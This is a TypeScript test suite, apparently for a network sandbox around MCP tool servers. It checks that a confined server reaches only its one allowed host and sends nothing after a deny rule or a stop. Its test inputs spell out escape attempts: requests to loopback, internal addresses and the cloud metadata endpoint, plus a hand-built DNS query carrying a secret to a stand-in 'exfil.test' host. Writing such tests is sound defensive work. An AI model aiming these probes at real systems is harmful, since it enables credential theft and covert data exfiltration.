/**
 * MCP servers that were given one place to reach, and try others: by the proxy, by sockets, by names.
 * The place itself is reached, so that it is no want of a network that holds. Controls: the same server
 * outside of its sandbox, and a client that looks names up by itself.
 */
import fs from "node:fs";
import path from "node:path";
import { ioi, projectRoot } from "../kernel.ts";
import { RawClient } from "../mcp/raw-client.ts";
import { type KernelCase, type KernelPlace, metadataAddress } from "./kernel-place.ts";

const python = "/usr/bin/python3";

const policyOf = (name: string, more: string): string => `version = 1
[[rule]]
id = "tools"
effect = "allow"
target = ["mcp::call"]
where.server = { equals = "${name}" }
where.tool = { equals = "reach" }
[tool."${name}"."*"]
roles = { "*" = "content" }
${more}`;

interface Tried {
  readonly urls?: readonly string[];
  readonly places?: readonly (readonly [string, number])[];
  readonly names?: readonly string[];
  readonly packets?: readonly (readonly [string, number, string])[];
}

const served = (at: KernelPlace): readonly string[] => {
  const folder = at.folder();
  const script = path.join(folder, "server.py");
  fs.copyFileSync(path.join(projectRoot, "tests/fixtures/mcp-server/server.py"), script);
  const state = path.join(folder, "state.json");
  const inputSchema = { type: "object", additionalProperties: true };
  fs.writeFileSync(state, JSON.stringify({ tools: [{ name: "reach", inputSchema }] }));
  return [python, script, state];
};

const gate = (at: KernelPlace, name: string, command: readonly string[], more = ""): RawClient => {
  const policy = path.join(at.folder(), "policy.toml");
  fs.writeFileSync(policy, policyOf(name, more));
  const how = ["--name", name, "--network", "site.test:80", "--on-ask", "deny"];
  return RawClient.gate(at.world.data, [...how, "--policy", policy, "--", ...command]);
};

const through = async (client: RawClient, tried: Tried): Promise<string> => {
  await client.hello();
  await client.request("tools/list");
  return await client.call("reach", tried);
};

const directly = async ([program = "", ...args]: readonly string[], tried: Tried) => {
  await using direct = new RawClient(program, args);
  await direct.hello();
  return await direct.call("reach", tried);
};

/** What arrived where nothing may. */
const arrivals = ({ world, metadata }: KernelPlace): number =>
  world.loopback.connections + world.inside.connections + metadata.connections;

const sockets = (at: KernelPlace): Tried => ({
  places: [
    ["127.0.0.1", at.world.loopback.port],
    ["10.1.2.3", at.world.inside.port],
    [metadataAddress, 80],
  ],
});

const otherPlaces: KernelCase = {
  id: "mcp-network/other-places",
  run: async (at) => {
    const command = served(at);
    const { loopback } = at.world;
    const urls = [
      "http://site.test/given",
      "http://other.test/",
      `http://127.0.0.1:${loopback.port}/`,
      `http://${metadataAddress}/latest/meta-data/`,
      "http://site.test:8080/",
    ];
    const [before, asked] = [arrivals(at), at.world.asked("other.test")];
    await using client = gate(at, "reach-out", command);
    const said = await through(client, { urls, ...sockets(at) });
    const got = arrivals(at) - before + (at.world.asked("other.test") - asked);
    await directly(command, sockets(at));
    const reached = (said.match(/ 200 /g) ?? []).length;
    return {
      control: arrivals(at) - before > got,
      held: got === 0 && reached === 1 && /site\.test\/given 200/.test(said),
      expected: "its own place alone; no look-up, no connection",
      actual: `${reached} pages; ${got} arrivals; ${said.slice(0, 300)}`,
    };
  },
};

const secretName = "hush-0123456789.exfil.test";

/** A query for it, as a resolver would send it. */
const queryOf = (name: string): string =>
  Buffer.concat([
    Buffer.from("123401000001000000000000", "hex"),
    ...name.split(".").map((label) => Buffer.from([label.length, ...Buffer.from(label)])),
    Buffer.from([0, 0, 1, 0, 1]),
  ]).toString("hex");

const names: KernelCase = {
  id: "mcp-network/names-as-a-channel",
  run: async (at) => {
    const command = served(at);
    const [host = "", port = ""] = at.world.stub.address.split(":");
    const packets = [[host, Number(port), queryOf(secretName)]] as const;
    const tried = { names: [secretName], packets, urls: [`http://${secretName}/`] };
    await using client = gate(at, "reach-names", command);
    const said = await through(client, tried);
    const asked = at.world.asked(secretName);
    await directly(command, { packets });
    await at.world.naive.fetch(`http://${secretName}/`);
    return {
      control: at.world.asked(secretName) > asked,
      held: asked === 0,
      expected: "never looked up",
      actual: `looked up ${asked}; ${said.slice(0, 300)}`,
    };
  },
};

const byRule: KernelCase = {
  id: "mcp-network/place-that-a-rule-refuses",
  run: async (at) => {
    const rule = `[[rule]]
id = "closed"
effect = "deny"
target = ["net::connect"]
where.host = { equals = "site.test" }
`;
    const tried = { urls: ["http://site.test/ruled"] };
    const command = served(at);
    const before = at.requests;
    await using client = gate(at, "reach-rule", command, rule);
    const said = await through(client, tried);
    const sent = at.requests - before;
    await using open = gate(at, "reach-open", served(at));
    await through(open, tried);
    return {
      control: at.requests > before + sent,
      held: sent === 0 && /refused 403/.test(said),
      expected: "nothing sent",
      actual: `${sent} requests; ${said.slice(0, 200)}`,
    };
  },
};

const stopped: KernelCase = {
  id: "mcp-network/after-a-stop",
  run: async (at) => {
    const tried = { urls: ["http://site.test/stopped"] };
    await using client = gate(at, "reach-stop", served(at));
    await through(client, tried);
    const working = at.requests;
    const stop = await ioi(["stop", "--data", at.world.data]);
    client.send({
      jsonrpc: "2.0",
      id: "late",
      method: "tools/call",
      params: { name: "reach", arguments: tried },
    });
    await client.exited;
    return {
      control: working > 0,
      held: at.requests === working,
      expected: "nothing after the stop",
      actual: `${at.requests - working} requests; stop ended with ${stop.code}`,
    };
  },
};

export const serverCases: readonly KernelCase[] = [otherPlaces, names, byRule, stopped];
